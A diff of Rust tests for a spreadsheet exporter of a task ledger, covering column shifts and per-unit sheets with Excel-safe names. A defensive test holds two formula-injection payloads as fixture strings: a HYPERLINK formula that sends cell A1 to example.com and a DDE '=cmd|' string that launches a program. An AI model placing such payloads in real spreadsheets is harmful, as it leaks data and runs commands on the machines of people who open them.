@@ -28,7 +28,7 @@ fn read_back(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>, Vec<Vec<Data>>) {
     (names, text, raw)
 }
 
-fn check(seed: &Seed, ledger: &Ledger, expected: &[[String; 10]]) {
+fn check(seed: &Seed, ledger: &Ledger, expected: &[[String; 11]]) {
     let bytes = ledger_xlsx(ledger).unwrap();
     let (names, cells, raw) = read_back(&bytes);
     assert_eq!(names, ["任务台账"]);
@@ -76,7 +76,7 @@ fn seed_004_with_a_tricky_text_and_note() {
     let ledger = ledger(&seed, &Filter::default());
     let expected = expected_rows(&seed.outline, all);
     assert_eq!(expected[0][3], TRICKY_TEXT);
-    assert_eq!(expected[0][9], TRICKY_NOTE);
+    assert_eq!(expected[0][10], TRICKY_NOTE);
     check(&seed, &ledger, &expected);
 }
 
@@ -96,6 +96,7 @@ fn the_worker_answers_a_request_with_the_same_workbook() {
     let seed = seed(SEED_004);
     let ledger = ledger(&seed, &Filter::default());
     let request = serde_json::to_string(&XlsxRequest {
+        units: None,
         id: 7,
         ledger: ledger.clone(),
     })
@@ -120,11 +121,62 @@ fn a_text_that_looks_like_a_formula_is_written_as_a_string_not_a_formula() {
         first[3],
         Data::String("=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")".to_owned())
     );
-    assert_eq!(first[9], Data::String("=cmd|' /C calc'!A0".to_owned()));
+    assert_eq!(first[10], Data::String("=cmd|' /C calc'!A0".to_owned()));
     let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
     let formulas = book.worksheet_formula("任务台账").unwrap();
     assert!(
         formulas.used_cells().all(|(_, _, f)| f.is_empty()),
         "no cell holds a formula"
+    );
+}
+
+#[test]
+fn by_unit_a_sheet_per_unit_with_its_lead_tasks_then_its_cooperating_ones() {
+    use duban::export::xlsx::{sheet_name, units_xlsx};
+    use duban::export::{UnitLedger, UNIT_COLUMNS};
+    let seed = seed(SEED_003);
+    let filter = Filter::default();
+    let matches = seed.index.apply(&filter, &|_| false);
+    let book = UnitLedger::of_view(&seed.index, &filter, &matches, "2026-11-22", mark_of);
+    let bytes = units_xlsx(&book).unwrap();
+    let mut wb: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
+    let names = wb.sheet_names();
+    assert_eq!(names.len(), book.units.len());
+    for (name, sheet) in names.iter().zip(&book.units) {
+        assert_eq!(*name, sheet_name(&sheet.unit, &[]));
+        let range = wb.worksheet_range(name).unwrap();
+        let cells: Vec<Vec<String>> = range
+            .rows()
+            .map(|r| r.iter().map(|c| c.to_string()).collect())
+            .collect();
+        assert!(cells[0][0].contains(&sheet.unit));
+        assert_eq!(cells[HEADER_ROW as usize], UNIT_COLUMNS);
+        let data = &cells[HEADER_ROW as usize + 1..];
+        assert_eq!(data.len(), sheet.lead.len() + sheet.coop.len());
+        let want: Vec<(String, String, String)> = sheet
+            .lead
+            .iter()
+            .map(|r| ("牵头", r))
+            .chain(sheet.coop.iter().map(|r| ("配合", r)))
+            .map(|(role, r)| (role.to_owned(), r.number.clone(), r.text.clone()))
+            .collect();
+        let got: Vec<(String, String, String)> = data
+            .iter()
+            .map(|r| (r[0].clone(), r[2].clone(), r[3].clone()))
+            .collect();
+        assert_eq!(got, want, "{name}");
+    }
+    // Names Excel accepts: no []:*?/\, at most 31 chars, none twice.
+    assert_eq!(
+        sheet_name("市委办[市府办]/机要局", &[]),
+        "市委办_市府办__机要局"
+    );
+    let long = "长".repeat(40);
+    assert_eq!(sheet_name(&long, &[]).chars().count(), 31);
+    let taken = vec![sheet_name(&long, &[])];
+    let second = sheet_name(&long, &taken);
+    assert!(
+        second.ends_with("（2）") && second.chars().count() == 31,
+        "{second}"
     );
 }
